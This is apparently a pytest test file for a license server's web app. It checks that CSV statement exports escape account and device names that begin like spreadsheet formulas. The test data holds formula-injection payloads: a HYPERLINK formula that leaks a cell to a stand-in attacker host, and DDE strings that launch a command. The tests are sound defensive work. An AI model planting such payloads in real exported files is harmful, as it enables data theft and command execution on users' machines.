"""The statement CSV is safe to open in a spreadsheet (issue 14, item 4): a name that begins like a formula
(`=HYPERLINK(…)`, `+`, `-`, `@`, tab, CR: OWASP's list) is written as text, not as a live formula."""

from __future__ import annotations

import csv
import io

import pytest

from tests.support.license_server import LiveLicenseServer


IP_PORT = "01-00010-001"
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click for your invoice")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0")


@pytest.fixture
def server(tmp_path, clock):
    server = LiveLicenseServer(tmp_path / "server", clock=clock).start()
    yield server
    server.stop()


def _statement_rows(client, csrf, server, name: str, pbx_name: str) -> list[list[str]]:
    token = server.add_technician("Acme Telecom", "Ann")
    assert client.post("/settings/server", data={"server_url": server.url, "token": token,
                                                 "csrf_token": csrf}).status_code == 302
    client.post("/sync/run", data={"csrf_token": csrf})  # the price list
    made = client.post("/accounts/new", data={"name": name, "contact_email": "it@acme.example", "language": "en",
                                              "csrf_token": csrf})
    assert made.status_code == 302, made.data
    account = made.headers["Location"]
    [key] = server.issue_keys("100", 1)
    assert client.post(account + "/key", data={"key": key, "csrf_token": csrf}).status_code == 302
    pbx = client.post(account + "/pbx/new", data={"name": pbx_name, "serial": "SN-1", "platform": "vmware",
                                                  "firmware": "13r2", "mode": "rental", "csrf_token": csrf})
    assert pbx.status_code == 302, pbx.data
    licenses = pbx.headers["Location"] + "/licenses"
    assert client.post(licenses, data={f"qty-{IP_PORT}": "2", "csrf_token": csrf}).status_code == 302
    client.post("/sync/run", data={"csrf_token": csrf})
    server.clock.advance(3 * 86_400)  # three days of rent, charged (a ledger line) at the next change
    assert client.post(licenses, data={f"qty-{IP_PORT}": "3", "csrf_token": csrf}).status_code == 302
    client.post("/sync/run", data={"csrf_token": csrf})
    answer = client.get(account + "/statement.csv")
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(answer.data.decode())))


@pytest.mark.parametrize("name", FORMULAS)
def test_an_account_named_like_a_formula_lands_in_the_csv_as_text(unlocked, csrf, server, name):
    rows = _statement_rows(unlocked, csrf, server, name, "=cmd|' /C calc'!A0")
    assert rows[0][1] == "'" + name, rows[0]  # the title names the account, shown as text, never evaluated
    charges = [row for row in rows if len(row) > 1 and row[1] == IP_PORT]
    assert charges  # the charged period of the item
    assert all(row[0] == "'=cmd|' /C calc'!A0" for row in charges)  # the PBX's name, as text
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_owasp_formula_start_is_neutralised(cell):
    from app.web.security import spreadsheet_safe

    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Acme Hotel", "12.500", "a=b", "", 42, 0])
def test_ordinary_cells_and_numbers_are_left_as_they_are(cell):
    from app.web.security import spreadsheet_safe

    assert spreadsheet_safe(cell) == cell
